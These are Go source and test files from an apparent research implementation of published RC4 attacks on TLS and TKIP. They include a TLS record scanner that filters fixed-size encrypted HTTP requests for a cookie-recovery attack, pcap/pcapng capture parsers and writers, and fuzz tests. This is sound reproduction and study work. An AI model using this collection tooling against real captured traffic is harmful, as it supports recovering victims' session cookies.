	return err
}

// scan is the shared zero-copy core: complete the buffered partial record
// first (byte-minimally), then walk whole records directly in data, then
// stash the new partial tail. The tail stash swaps buf and spare when a
// record was emitted out of buf this call, so that emitted view survives
// until the next scan.
func (s *Scanner) scan(data []byte, emit func(body []byte)) error {
	emittedFromBuf := false
	if len(s.buf) > 0 {
		if len(s.buf) < HeaderSize {
			take := min(HeaderSize-len(s.buf), len(data))
			s.buf = append(s.buf, data[:take]...)
			data = data[take:]
			if len(s.buf) < HeaderSize {
				return nil
			}
		}
		length := int(binary.BigEndian.Uint16(s.buf[3:5]))
		if length > maxRecordLen {
			// Drop the poisoned buffer: see ErrRecordTooLarge. The rest of
			// data is unframeable for the same reason and is dropped with it.
			s.buf = s.buf[:0]
			return ErrRecordTooLarge
		}
		total := HeaderSize + length
		take := min(total-len(s.buf), len(data))
		s.buf = append(s.buf, data[:take]...)
		data = data[take:]
		if len(s.buf) < total {
			return nil
		}
		if s.buf[0] == TypeApplicationData {
			s.Records++
			emit(s.buf[HeaderSize:total])
			emittedFromBuf = true
		} else {
			s.Skipped++
		}
	}
	off := 0
	for len(data)-off >= HeaderSize {
		length := int(binary.BigEndian.Uint16(data[off+3 : off+5]))
		if length > maxRecordLen {
			s.buf = s.buf[:0]
			return ErrRecordTooLarge
		}
		total := HeaderSize + length
		if len(data)-off < total {
			break
		}
		if data[off] == TypeApplicationData {
			s.Records++
			emit(data[off+HeaderSize : off+total])
		} else {
			s.Skipped++
		}
		off += total
	}
	if emittedFromBuf {
		// buf still backs the record emitted above; stash the tail in the
		// other array so the view stays valid until the next scan.
		s.buf, s.spare = s.spare, s.buf
	}
	s.buf = append(s.buf[:0], data[off:]...)
	return nil
}

// CollectRequests is the full §6.3 filter: it scans the stream and delivers
// only application-data records whose body length equals wantLen — the
// fixed-size encrypted HTTP requests the attack aligns. Other sizes
// (responses, pipelined odds and ends) are counted but dropped.
type CollectRequests struct {
	Scanner Scanner
	WantLen int
	// Matched and Other count fixed-size requests delivered and other
	// application-data records dropped.
	Matched uint64
	Other   uint64
}

// Feed forwards stream bytes, delivering only matching record bodies.
func (c *CollectRequests) Feed(data []byte, deliver func(body []byte)) error {
	return c.Scanner.Feed(data, func(body []byte) {
		if len(body) == c.WantLen {
			c.Matched++
			deliver(body)
			return
		}
		c.Other++
	})
}

// FeedBatch is Feed with batched delivery: the matching record bodies
// completed by this call arrive as one slice, in stream order, with the
// scanner's until-next-call view validity. The batch fold path uses this to
// hand the attack whole chunks of matched records at once.
func (c *CollectRequests) FeedBatch(data []byte, deliver func(bodies [][]byte)) error {
	return c.Scanner.FeedBatch(data, func(bodies [][]byte) {
		// Filter in place: bodies is the scanner's scratch, untouched until
		// its next call, so compacting it costs no allocation.
		n := 0
		for _, body := range bodies {
			if len(body) == c.WantLen {
				c.Matched++
				bodies[n] = body
				n++
			} else {
				c.Other++
			}
		}
		if n > 0 {
			deliver(bodies[:n])
		}
	})
}

// Drain reads r to EOF through the collector in chunks — convenience for
// pcap-style offline processing (the paper's TKIP tool parses a raw pcap;
// the TLS tool monitors live traffic).
func (c *CollectRequests) Drain(r io.Reader, deliver func(body []byte)) error {
	chunk := make([]byte, 4096)
	for {
		n, err := r.Read(chunk)
		if n > 0 {
			if ferr := c.Feed(chunk[:n], deliver); ferr != nil {
				return ferr
			}
		}
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
	}
}
