package tlsrec

import (
	"encoding/binary"
	"errors"
	"io"
)

// Scanner splits a raw TLS byte stream into records — the §6.3 collection
// tool's first stage ("this requires reassembling the TCP and TLS streams,
// and then detecting the 512-byte (encrypted) HTTP requests"). It tolerates
// records arriving fragmented across arbitrary read boundaries, skips
// non-application-data records (handshake, alerts, change-cipher-spec), and
// hands complete application-data record bodies to the caller.
type Scanner struct {
	buf []byte
	// Records and Skipped count application-data records delivered and
	// other record types passed over.
	Records uint64
	Skipped uint64
}

// ErrRecordTooLarge guards against desynchronized streams: TLS caps record
// payloads at 2^14 + 2048; anything larger means we lost framing. When Feed
// returns it, the scanner has discarded its entire buffer — the bytes after
// a bogus header are unframeable, and keeping them would make every
// subsequent Feed re-fail on the same stale data. Records delivered before
// the bad header stay delivered, and Records/Skipped keep counting them;
// the caller resynchronizes by feeding bytes from a fresh record boundary
// (typically after reopening the stream).
var ErrRecordTooLarge = errors.New("tlsrec: record length exceeds TLS maximum (stream desynchronized?)")

const maxRecordLen = 16384 + 2048

// Feed appends stream bytes and invokes deliver for every complete
// application-data record body (the encrypted payload ‖ MAC, without the
// 5-byte header) now available. Bodies are only valid during the callback.
//
// Parsed records are tracked by a read offset and the buffer is compacted
// once per Feed call, so one Feed carrying R records costs O(R + len(buf)) —
// not the O(R·len(buf)) a per-record compaction would (a 64 KiB chunk of
// 512-byte records holds ~126 of them).
func (s *Scanner) Feed(data []byte, deliver func(body []byte)) error {
	s.buf = append(s.buf, data...)
	off := 0
	for {
		if len(s.buf)-off < HeaderSize {
			break
		}
		length := int(binary.BigEndian.Uint16(s.buf[off+3 : off+5]))
		if length > maxRecordLen {
			// Drop the poisoned buffer: see ErrRecordTooLarge.
			s.buf = s.buf[:0]
			return ErrRecordTooLarge
		}
		total := HeaderSize + length
		if len(s.buf)-off < total {
			break
		}
		typ := s.buf[off]
		body := s.buf[off+HeaderSize : off+total]
		if typ == TypeApplicationData {
			s.Records++
			deliver(body)
		} else {
			s.Skipped++
		}
		off += total
	}
	if off > 0 {
		s.buf = s.buf[:copy(s.buf, s.buf[off:])]
	}
	return nil
}

// CollectRequests is the full §6.3 filter: it scans the stream and delivers
// only application-data records whose body length equals wantLen — the
// fixed-size encrypted HTTP requests the attack aligns. Other sizes
// (responses, pipelined odds and ends) are counted but dropped.
type CollectRequests struct {
	Scanner Scanner
	WantLen int
	// Matched and Other count fixed-size requests delivered and other
	// application-data records dropped.
	Matched uint64
	Other   uint64
}

// Feed forwards stream bytes, delivering only matching record bodies.
func (c *CollectRequests) Feed(data []byte, deliver func(body []byte)) error {
	return c.Scanner.Feed(data, func(body []byte) {
		if len(body) == c.WantLen {
			c.Matched++
			deliver(body)
			return
		}
		c.Other++
	})
}

// Drain reads r to EOF through the collector in chunks — convenience for
// pcap-style offline processing (the paper's TKIP tool parses a raw pcap;
// the TLS tool monitors live traffic).
func (c *CollectRequests) Drain(r io.Reader, deliver func(body []byte)) error {
	chunk := make([]byte, 4096)
	for {
		n, err := r.Read(chunk)
		if n > 0 {
			if ferr := c.Feed(chunk[:n], deliver); ferr != nil {
				return ferr
			}
		}
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
	}
}
