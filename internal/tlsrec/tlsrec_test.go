package tlsrec

import (
	"bytes"
	"testing"
	"testing/quick"
)

func testConns(t *testing.T) (send, recv *Conn) {
	t.Helper()
	master := make([]byte, MasterSecretSize)
	for i := range master {
		master[i] = byte(i * 7)
	}
	var cr, sr [32]byte
	cr[0], sr[0] = 1, 2
	client, _, err := DeriveKeys(master, cr, sr)
	if err != nil {
		t.Fatal(err)
	}
	return NewConn(client), NewConn(client)
}

func TestPRFDeterministicAndLength(t *testing.T) {
	secret := []byte("secret")
	a := PRF(secret, "label", []byte("seed"), 100)
	b := PRF(secret, "label", []byte("seed"), 100)
	if !bytes.Equal(a, b) {
		t.Fatal("PRF not deterministic")
	}
	if len(a) != 100 {
		t.Fatalf("length %d", len(a))
	}
	c := PRF(secret, "label2", []byte("seed"), 100)
	if bytes.Equal(a, c) {
		t.Fatal("different labels gave identical output")
	}
	// Prefix property: shorter request is a prefix of longer.
	d := PRF(secret, "label", []byte("seed"), 40)
	if !bytes.Equal(a[:40], d) {
		t.Fatal("PRF prefix property violated")
	}
}

func TestDeriveKeys(t *testing.T) {
	master := make([]byte, MasterSecretSize)
	var cr, sr [32]byte
	client, server, err := DeriveKeys(master, cr, sr)
	if err != nil {
		t.Fatal(err)
	}
	if client == server {
		t.Fatal("client and server key blocks identical")
	}
	if _, _, err := DeriveKeys(master[:47], cr, sr); err == nil {
		t.Fatal("short master secret accepted")
	}
}

func TestSealOpenRoundTrip(t *testing.T) {
	send, recv := testConns(t)
	for i := 0; i < 20; i++ {
		payload := []byte("GET / HTTP/1.1\r\nCookie: auth=secret\r\n\r\n")
		rec := send.Seal(payload)
		got, err := recv.Open(rec)
		if err != nil {
			t.Fatalf("record %d: %v", i, err)
		}
		if !bytes.Equal(got, payload) {
			t.Fatalf("record %d: corrupted payload", i)
		}
	}
	if send.Seq() != 20 || recv.Seq() != 20 {
		t.Fatalf("sequence numbers %d/%d", send.Seq(), recv.Seq())
	}
}

func TestRecordLayout(t *testing.T) {
	send, _ := testConns(t)
	payload := []byte("hello")
	rec := send.Seal(payload)
	if rec[0] != TypeApplicationData {
		t.Error("wrong record type")
	}
	if rec[1] != 0x03 || rec[2] != 0x03 {
		t.Error("wrong version")
	}
	wantLen := len(payload) + MACSize
	if int(rec[3])<<8|int(rec[4]) != wantLen {
		t.Error("wrong length field")
	}
	if len(rec) != HeaderSize+wantLen {
		t.Error("wrong total size")
	}
	// Ciphertext must differ from plaintext.
	if bytes.Contains(rec, payload) {
		t.Error("payload visible in record")
	}
}

func TestOpenRejectsTampering(t *testing.T) {
	send, recv := testConns(t)
	rec := send.Seal([]byte("payload payload"))
	rec[HeaderSize] ^= 1
	if _, err := recv.Open(rec); err != ErrMAC {
		t.Fatalf("err = %v, want ErrMAC", err)
	}
}

func TestOpenRejectsMalformed(t *testing.T) {
	_, recv := testConns(t)
	if _, err := recv.Open([]byte{1, 2, 3}); err != ErrRecord {
		t.Error("short record accepted")
	}
	send, recv2 := testConns(t)
	rec := send.Seal([]byte("x"))
	rec[0] = 22 // handshake type
	if _, err := recv2.Open(rec); err != ErrRecord {
		t.Error("wrong type accepted")
	}
	rec[0] = TypeApplicationData
	rec[3] = 0xff // corrupt length
	if _, err := recv2.Open(rec); err != ErrRecord {
		t.Error("bad length accepted")
	}
}

func TestOpenRejectsReplay(t *testing.T) {
	// Replaying a record desynchronizes both the RC4 state and the
	// sequence number; Open must fail.
	send, recv := testConns(t)
	rec := send.Seal([]byte("first"))
	if _, err := recv.Open(rec); err != nil {
		t.Fatal(err)
	}
	if _, err := recv.Open(rec); err == nil {
		t.Fatal("replayed record accepted")
	}
}

func TestOutOfOrderFails(t *testing.T) {
	send, recv := testConns(t)
	r1 := send.Seal([]byte("one"))
	r2 := send.Seal([]byte("two"))
	if _, err := recv.Open(r2); err == nil {
		t.Fatal("out-of-order record accepted")
	}
	_ = r1
}

func TestPersistentConnectionKeystreamContinuity(t *testing.T) {
	// §2.3: on a persistent connection RC4 is initialized once, so the
	// keystream position of record k's payload is deterministic — the
	// alignment the §6 attack depends on. Verify that byte offsets accumulate
	// exactly.
	send, _ := testConns(t)
	total := 0
	for i := 0; i < 5; i++ {
		p := bytes.Repeat([]byte{'a'}, 100)
		rec := send.Seal(p)
		total += len(rec) - HeaderSize
	}
	if total != 5*(100+MACSize) {
		t.Fatalf("keystream consumed %d", total)
	}
}

func TestSealDeterministicGivenState(t *testing.T) {
	f := func(payload []byte) bool {
		if len(payload) > 1000 {
			payload = payload[:1000]
		}
		a, b := testConnsQuick()
		ra := a.Seal(payload)
		rb := b.Seal(payload)
		return bytes.Equal(ra, rb)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

func testConnsQuick() (a, b *Conn) {
	var kb KeyBlock
	for i := range kb.Key {
		kb.Key[i] = byte(i + 1)
	}
	return NewConn(kb), NewConn(kb)
}

func BenchmarkSeal512(b *testing.B) {
	var kb KeyBlock
	kb.Key[0] = 1
	c := NewConn(kb)
	payload := make([]byte, 512-MACSize)
	b.SetBytes(512)
	for n := 0; n < b.N; n++ {
		c.Seal(payload)
	}
}
