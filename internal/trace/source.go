package trace

import (
	"bufio"
	"fmt"
	"io"
	"os"
	"strings"
)

// Source is one capture stream to ingest: a file on disk or an already-
// open reader. The attack packages' collectors walk an ordered list of
// sources as one logical capture (shard files concatenate), through one
// shared loop (EachSource) so the open/parse/close/error-context plumbing
// exists exactly once.
type Source struct {
	// Name labels the source in errors ("" for anonymous readers).
	Name string
	// Open yields the stream and an optional closer.
	Open func() (io.Reader, io.Closer, error)
}

// FileSources builds sources that open capture files on demand.
func FileSources(paths []string) []Source {
	out := make([]Source, len(paths))
	for i, path := range paths {
		path := path
		out[i] = Source{
			Name: path,
			Open: func() (io.Reader, io.Closer, error) {
				f, err := os.Open(path)
				if err != nil {
					return nil, nil, err
				}
				return f, f, nil
			},
		}
	}
	return out
}

// ReaderSources wraps in-memory or piped streams as sources.
func ReaderSources(readers []io.Reader) []Source {
	out := make([]Source, len(readers))
	for i, r := range readers {
		r := r
		out[i] = Source{Open: func() (io.Reader, io.Closer, error) { return r, nil, nil }}
	}
	return out
}

// CreateFile creates a capture file at path, choosing the container by
// extension (.pcapng writes pcapng, anything else classic pcap) and
// buffering writes. The returned done function flushes and closes the
// file; call it exactly once after the last packet.
func CreateFile(path string, linkType uint32) (PacketWriter, func() error, error) {
	f, err := os.Create(path)
	if err != nil {
		return nil, nil, err
	}
	bw := bufio.NewWriterSize(f, 1<<20)
	var pw PacketWriter
	if strings.HasSuffix(path, ".pcapng") {
		pw, err = NewPcapNGWriter(bw, linkType)
	} else {
		pw, err = NewPcapWriter(bw, linkType)
	}
	if err != nil {
		f.Close()
		return nil, nil, err
	}
	done := func() error {
		if err := bw.Flush(); err != nil {
			f.Close()
			return err
		}
		return f.Close()
	}
	return pw, done, nil
}

// EachSource ingests the sources in order, stopping early once done
// reports the caller's observation range is filled. Errors are wrapped
// with the source name when it has one.
func EachSource(sources []Source, done func() bool, ingest func(*Reader) error) error {
	for _, src := range sources {
		if done() {
			return nil
		}
		stream, closer, err := src.Open()
		if err == nil {
			var r *Reader
			if r, err = NewReader(stream); err == nil {
				err = ingest(r)
			}
			if closer != nil {
				closer.Close()
			}
		}
		if err != nil {
			if src.Name != "" {
				return fmt.Errorf("%s: %w", src.Name, err)
			}
			return err
		}
	}
	return nil
}
