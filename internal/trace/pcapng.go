package trace

import (
	"encoding/binary"
	"io"
)

// pcapng block types.
const (
	pcapngSHBType = 0x0A0D0D0A // Section Header Block
	pcapngIDBType = 0x00000001 // Interface Description Block
	pcapngSPBType = 0x00000003 // Simple Packet Block
	pcapngEPBType = 0x00000006 // Enhanced Packet Block

	pcapngByteOrderMagic = 0x1A2B3C4D
)

// maxBlockLen bounds one pcapng block; larger length fields are corruption
// (an EPB's overhead over its packet is tens of bytes).
const maxBlockLen = maxPacketLen + 1<<12

// pcapngIface is one Interface Description Block's relevant state; EPBs
// reference interfaces by index and each carries its own link type.
type pcapngIface struct {
	linkType  uint32
	tsResolNS uint64 // nanoseconds per timestamp unit
}

// pcapngReader streams a pcapng file block by block: Section Header Blocks
// reset the byte order and interface table, Interface Description Blocks
// declare link types, Enhanced/Simple Packet Blocks carry packets, and any
// other block type is skipped.
type pcapngReader struct {
	r      io.Reader
	order  binary.ByteOrder
	ifaces []pcapngIface
	buf    []byte
}

func newPcapNGReader(r io.Reader) (*Reader, error) {
	p := &pcapngReader{r: r}
	// The stream must open with a Section Header Block.
	var pre [8]byte
	if err := readFull(r, pre[:]); err != nil {
		return nil, err
	}
	if binary.BigEndian.Uint32(pre[0:4]) != pcapngSHBType {
		return nil, ErrFormat
	}
	if err := p.enterSection(pre[4:8]); err != nil {
		return nil, err
	}
	return &Reader{next: p.next}, nil
}

// enterSection parses the remainder of a Section Header Block whose type
// word has been consumed and whose (endian-ambiguous) total-length bytes
// are in rawLen. The byte-order magic that follows fixes the endianness.
func (p *pcapngReader) enterSection(rawLen []byte) error {
	var magic [4]byte
	if err := readFull(p.r, magic[:]); err != nil {
		return err
	}
	switch binary.BigEndian.Uint32(magic[:]) {
	case pcapngByteOrderMagic:
		p.order = binary.BigEndian
	case 0x4D3C2B1A: // byte-order magic seen through the opposite endianness
		p.order = binary.LittleEndian
	default:
		return ErrFormat
	}
	total := p.order.Uint32(rawLen)
	// Type(4) + length(4) + magic(4) are consumed; the rest of the block
	// (version, section length, options, trailing length) is skipped.
	if total < 28 || total > maxBlockLen || total%4 != 0 {
		return ErrCorrupt
	}
	if err := p.skip(int(total) - 12); err != nil {
		return err
	}
	p.ifaces = p.ifaces[:0] // interfaces are scoped to their section
	return nil
}

func (p *pcapngReader) skip(n int) error {
	if cap(p.buf) < n {
		p.buf = make([]byte, n)
	}
	return readFull(p.r, p.buf[:n])
}

func (p *pcapngReader) next() (Packet, error) {
	for {
		var hdr [8]byte
		if _, err := io.ReadFull(p.r, hdr[:]); err != nil {
			if err == io.EOF {
				return Packet{}, io.EOF // clean end at a block boundary
			}
			if err == io.ErrUnexpectedEOF {
				return Packet{}, ErrTruncatedCapture
			}
			return Packet{}, err
		}
		if binary.BigEndian.Uint32(hdr[0:4]) == pcapngSHBType {
			// A new section: endianness and interfaces start over.
			if err := p.enterSection(hdr[4:8]); err != nil {
				return Packet{}, err
			}
			continue
		}
		blockType := p.order.Uint32(hdr[0:4])
		total := p.order.Uint32(hdr[4:8])
		if total < 12 || total > maxBlockLen || total%4 != 0 {
			return Packet{}, ErrCorrupt
		}
		body := int(total) - 12 // block minus type, length, trailing length
		if cap(p.buf) < body {
			p.buf = make([]byte, body)
		}
		buf := p.buf[:body]
		if err := readFull(p.r, buf); err != nil {
			return Packet{}, err
		}
		var trailer [4]byte
		if err := readFull(p.r, trailer[:]); err != nil {
			return Packet{}, err
		}
		if p.order.Uint32(trailer[:]) != total {
			return Packet{}, ErrCorrupt
		}

		switch blockType {
		case pcapngIDBType:
			if len(buf) < 8 {
				return Packet{}, ErrCorrupt
			}
			p.ifaces = append(p.ifaces, pcapngIface{
				linkType:  uint32(p.order.Uint16(buf[0:2])),
				tsResolNS: 1000, // default if_tsresol is microseconds
			})
		case pcapngEPBType:
			if len(buf) < 20 {
				return Packet{}, ErrCorrupt
			}
			ifaceID := p.order.Uint32(buf[0:4])
			if int(ifaceID) >= len(p.ifaces) {
				return Packet{}, ErrCorrupt
			}
			ts := uint64(p.order.Uint32(buf[4:8]))<<32 | uint64(p.order.Uint32(buf[8:12]))
			capLen := p.order.Uint32(buf[12:16])
			if int(capLen) > len(buf)-20 {
				return Packet{}, ErrCorrupt
			}
			iface := p.ifaces[ifaceID]
			return Packet{
				LinkType: iface.linkType,
				TS:       ts * iface.tsResolNS,
				Data:     buf[20 : 20+capLen],
			}, nil
		case pcapngSPBType:
			if len(p.ifaces) == 0 {
				return Packet{}, ErrCorrupt
			}
			if len(buf) < 4 {
				return Packet{}, ErrCorrupt
			}
			origLen := int(p.order.Uint32(buf[0:4]))
			capLen := len(buf) - 4 // padded to 32 bits by the writer
			if origLen < capLen {
				capLen = origLen
			}
			return Packet{LinkType: p.ifaces[0].linkType, Data: buf[4 : 4+capLen]}, nil
		default:
			// Name resolution, statistics, custom blocks: skip.
		}
	}
}

// PcapNGWriter writes a pcapng file: one Section Header Block, one
// Interface Description Block, then one Enhanced Packet Block per packet
// (little-endian, microsecond timestamps, deterministic like PcapWriter).
type PcapNGWriter struct {
	w  io.Writer
	ts uint64 // microseconds
}

// NewPcapNGWriter writes the section and interface headers for the given
// link type and returns the writer.
func NewPcapNGWriter(w io.Writer, linkType uint32) (*PcapNGWriter, error) {
	le := binary.LittleEndian
	shb := make([]byte, 28)
	le.PutUint32(shb[0:4], pcapngSHBType)
	le.PutUint32(shb[4:8], 28)
	le.PutUint32(shb[8:12], pcapngByteOrderMagic)
	le.PutUint16(shb[12:14], 1) // major
	// minor stays 0.
	le.PutUint64(shb[16:24], ^uint64(0)) // section length unknown
	le.PutUint32(shb[24:28], 28)

	idb := make([]byte, 20)
	le.PutUint32(idb[0:4], pcapngIDBType)
	le.PutUint32(idb[4:8], 20)
	le.PutUint16(idb[8:10], uint16(linkType))
	le.PutUint32(idb[12:16], 262144) // snaplen
	le.PutUint32(idb[16:20], 20)

	if _, err := w.Write(shb); err != nil {
		return nil, err
	}
	if _, err := w.Write(idb); err != nil {
		return nil, err
	}
	return &PcapNGWriter{w: w}, nil
}

// WritePacket appends one Enhanced Packet Block.
func (pw *PcapNGWriter) WritePacket(data []byte) error {
	le := binary.LittleEndian
	padded := (len(data) + 3) &^ 3
	total := 32 + padded
	blk := make([]byte, total)
	le.PutUint32(blk[0:4], pcapngEPBType)
	le.PutUint32(blk[4:8], uint32(total))
	// Interface ID 0.
	le.PutUint32(blk[12:16], uint32(pw.ts>>32))
	le.PutUint32(blk[16:20], uint32(pw.ts))
	le.PutUint32(blk[20:24], uint32(len(data)))
	le.PutUint32(blk[24:28], uint32(len(data)))
	copy(blk[28:], data)
	le.PutUint32(blk[28+padded:], uint32(total))
	pw.ts++
	_, err := pw.w.Write(blk)
	return err
}
