package trace

import (
	"bytes"
	"io"
	"testing"
)

// fuzzSeedCaptures builds small valid captures in every container/link
// combination the package writes, so the fuzzers start from structurally
// interesting corpora instead of pure noise.
func fuzzSeedCaptures(tb testing.TB) [][]byte {
	tb.Helper()
	var seeds [][]byte
	for _, format := range []string{"pcap", "pcapng"} {
		var buf bytes.Buffer
		var (
			pw  PacketWriter
			err error
		)
		if format == "pcap" {
			pw, err = NewPcapWriter(&buf, LinkTypeRadiotap)
		} else {
			pw, err = NewPcapNGWriter(&buf, LinkTypeRadiotap)
		}
		if err != nil {
			tb.Fatal(err)
		}
		fw, err := NewFrameWriter(pw, LinkTypeRadiotap, [6]byte{1}, [6]byte{2}, [6]byte{3})
		if err != nil {
			tb.Fatal(err)
		}
		if err := fw.WriteFrame(0xBEEF, []byte("encrypted-body-bytes")); err != nil {
			tb.Fatal(err)
		}
		if err := fw.WriteRetry(); err != nil {
			tb.Fatal(err)
		}
		seeds = append(seeds, append([]byte(nil), buf.Bytes()...))

		buf.Reset()
		if format == "pcap" {
			pw, err = NewPcapWriter(&buf, LinkTypeEthernet)
		} else {
			pw, err = NewPcapNGWriter(&buf, LinkTypeEthernet)
		}
		if err != nil {
			tb.Fatal(err)
		}
		sw, err := NewTCPStreamWriter(pw, LinkTypeEthernet, FlowKey{
			SrcIP: [4]byte{10, 0, 0, 1}, DstIP: [4]byte{10, 0, 0, 2}, SrcPort: 1234, DstPort: 443,
		})
		if err != nil {
			tb.Fatal(err)
		}
		if err := sw.WriteStream(bytes.Repeat([]byte{0x17, 0x03, 0x03}, 64)); err != nil {
			tb.Fatal(err)
		}
		seeds = append(seeds, append([]byte(nil), buf.Bytes()...))
	}
	return seeds
}

// FuzzReader hammers the container parsers: arbitrary bytes must never
// panic, over-read, or loop forever — every stream ends in a packet
// sequence terminated by io.EOF or a typed error. The whole TCP path is
// driven behind it so packet parsing and reassembly fuzz too.
func FuzzReader(f *testing.F) {
	for _, seed := range fuzzSeedCaptures(f) {
		f.Add(seed)
	}
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := NewReader(bytes.NewReader(data))
		if err != nil {
			return
		}
		var as Assembler
		as.MaxBuffered = 1 << 16
		deliver := func(FlowKey, []byte) error { return nil }
		for i := 0; i < 1<<14; i++ {
			pkt, err := r.Next()
			if err == io.EOF {
				break
			}
			if err != nil {
				return
			}
			if len(pkt.Data) > maxPacketLen {
				t.Fatalf("reader surfaced an oversized packet: %d bytes", len(pkt.Data))
			}
			if seg, err := ParseTCPPacket(pkt.LinkType, pkt.Data); err == nil {
				if err := as.Push(seg, deliver); err != nil {
					return
				}
			}
		}
		_ = as.Flush(deliver)
	})
}

// FuzzRadiotapMPDU hammers the monitor-mode frame path: radiotap split
// plus 802.11/TKIP parsing over arbitrary bytes must never panic or
// over-read, and an accepted MPDU's body must lie inside the input.
func FuzzRadiotapMPDU(f *testing.F) {
	var buf bytes.Buffer
	pw, _ := NewPcapWriter(&buf, LinkTypeRadiotap)
	fw, _ := NewFrameWriter(pw, LinkTypeRadiotap, [6]byte{1}, [6]byte{2}, [6]byte{3})
	_ = fw.WriteFrame(7, []byte("body"))
	f.Add(buf.Bytes()[24+16:]) // the raw radiotap+frame packet
	f.Add([]byte{0, 0, 8, 0, 0, 0, 0, 0})
	f.Fuzz(func(t *testing.T, data []byte) {
		frame, fcs, err := SplitRadiotap(data)
		if err == nil {
			if m, err := ParseMPDU(frame, fcs); err == nil {
				if len(m.Body) > len(data) {
					t.Fatal("MPDU body larger than the input")
				}
			}
		}
		// The bare-802.11 path must hold on the same bytes too.
		if m, err := ParseMPDU(data, false); err == nil {
			if len(m.Body) > len(data) {
				t.Fatal("MPDU body larger than the input")
			}
		}
	})
}
