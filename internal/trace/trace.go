// Package trace is the repository's real-capture input layer: a
// dependency-free (no cgo, no libpcap) streaming reader and writer for the
// classic pcap and pcapng container formats, a radiotap + 802.11 frame
// parser that extracts TKIP-encrypted MPDUs the way the paper's §5.4
// collection tool does ("parses a raw pcap file"), and a TCP flow
// reassembler that rebuilds the byte streams the §6.3 tool scans for TLS
// records ("this requires reassembling the TCP and TLS streams").
//
// Everything every ciphertext-consuming layer above eats today is
// synthesized in-process by netsim; this package gives the same layers a
// second input: captures on disk. The attack packages own the conversion
// from parsed packets into their evidence pools (tkip.TraceCollector,
// cookieattack.TraceCollector); netsim owns the writer side (its victims
// emit their simulated streams as pcap files), which is what lets the
// round-trip — sim → pcap → ingest — be pinned bitwise against direct
// in-process capture.
//
// Readers stream: packets are decoded one at a time into a reusable buffer,
// so a multi-gigabyte trace ingests at O(max packet size) memory, not
// O(file size). Writers produce deterministic bytes (fixed synthetic
// timestamps), so written traces are comparable across runs like every
// other artifact in the repository.
package trace

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
)

// Link types (the pcap LINKTYPE_ registry values this package understands).
const (
	// LinkTypeEthernet frames carry Ethernet II headers (the TLS capture
	// path).
	LinkTypeEthernet uint32 = 1
	// LinkTypeRawIP frames start directly at the IPv4 header.
	LinkTypeRawIP uint32 = 101
	// LinkTypeIEEE80211 frames start at the 802.11 MAC header.
	LinkTypeIEEE80211 uint32 = 105
	// LinkTypeRadiotap frames carry a radiotap pseudo-header before the
	// 802.11 MAC header — what monitor-mode capture tools actually write.
	LinkTypeRadiotap uint32 = 127
)

// Errors shared by the readers. ErrTruncatedCapture is the "truncated final
// packet" case: the container promised more bytes than the stream holds —
// an interrupted capture or a cut-off copy — and the caller decides whether
// the packets already delivered are usable.
var (
	ErrFormat           = errors.New("trace: not a pcap or pcapng capture (bad magic)")
	ErrTruncatedCapture = errors.New("trace: capture truncated mid-packet (interrupted or cut-off file)")
	ErrCorrupt          = errors.New("trace: corrupt capture structure")
)

// LinkTypeError reports a capture whose link type a collector cannot
// consume (e.g. an Ethernet trace fed to the 802.11 pipeline).
type LinkTypeError struct {
	LinkType uint32
	Want     string
}

func (e *LinkTypeError) Error() string {
	return fmt.Sprintf("trace: unsupported link type %d (want %s)", e.LinkType, e.Want)
}

// maxPacketLen bounds one captured packet; the usual tcpdump snaplen is
// 262144, so anything beyond this is a corrupt length field, not data.
const maxPacketLen = 1 << 21

// Packet is one captured packet. Data aliases the reader's internal buffer
// and is only valid until the next call to Next.
type Packet struct {
	// LinkType is the capture's link type (per interface for pcapng).
	LinkType uint32
	// TS is the capture timestamp in nanoseconds since the epoch.
	TS uint64
	// Data is the captured packet bytes.
	Data []byte
}

// PacketWriter is the writing half shared by both container formats:
// FrameWriter and TCPStreamWriter compose over it, so every synthetic
// stream can be written as classic pcap or pcapng interchangeably.
type PacketWriter interface {
	// WritePacket appends one packet record.
	WritePacket(data []byte) error
}

// Reader decodes packets from a pcap or pcapng stream, sniffing the format
// from the magic number. It reads strictly forward (io.Reader, no seeking)
// and reuses one packet buffer across calls.
type Reader struct {
	next func() (Packet, error)
}

// NewReader sniffs the container format and returns a streaming reader.
func NewReader(r io.Reader) (*Reader, error) {
	br := bufio.NewReaderSize(r, 1<<16)
	magic, err := br.Peek(4)
	if err != nil {
		if err == io.EOF {
			return nil, ErrTruncatedCapture
		}
		return nil, err
	}
	switch binary.BigEndian.Uint32(magic) {
	case pcapMagicUsec, pcapMagicUsecSwapped, pcapMagicNsec, pcapMagicNsecSwapped:
		return newPcapReader(br)
	case pcapngSHBType:
		return newPcapNGReader(br)
	}
	return nil, ErrFormat
}

// Next returns the next packet, io.EOF at a clean end of the capture, or
// ErrTruncatedCapture when the stream ends mid-record.
func (r *Reader) Next() (Packet, error) { return r.next() }

// readFull fills buf, mapping any end-of-stream condition to
// ErrTruncatedCapture — by the time a reader calls this it has already
// committed to a record that must be whole.
func readFull(r io.Reader, buf []byte) error {
	if _, err := io.ReadFull(r, buf); err != nil {
		if err == io.EOF || err == io.ErrUnexpectedEOF {
			return ErrTruncatedCapture
		}
		return err
	}
	return nil
}
