package trace

import (
	"bytes"
	"errors"
	"io"
	"math/rand"
	"testing"

	"rc4break/internal/packet"
)

var testFlow = FlowKey{
	SrcIP:   [4]byte{192, 168, 1, 100},
	DstIP:   [4]byte{203, 0, 113, 80},
	SrcPort: 52113,
	DstPort: 443,
}

// writeStreamPackets writes stream bytes through a TCPStreamWriter with
// the given MSS and returns the capture file bytes.
func writeStreamPackets(t *testing.T, linkType uint32, mss int, stream []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	pw, err := NewPcapWriter(&buf, linkType)
	if err != nil {
		t.Fatal(err)
	}
	sw, err := NewTCPStreamWriter(pw, linkType, testFlow)
	if err != nil {
		t.Fatal(err)
	}
	sw.MSS = mss
	if err := sw.WriteStream(stream); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// reassemble runs a capture through ParseTCPPacket + Assembler and returns
// the delivered stream.
func reassemble(t *testing.T, capture []byte) []byte {
	t.Helper()
	r, err := NewReader(bytes.NewReader(capture))
	if err != nil {
		t.Fatal(err)
	}
	var as Assembler
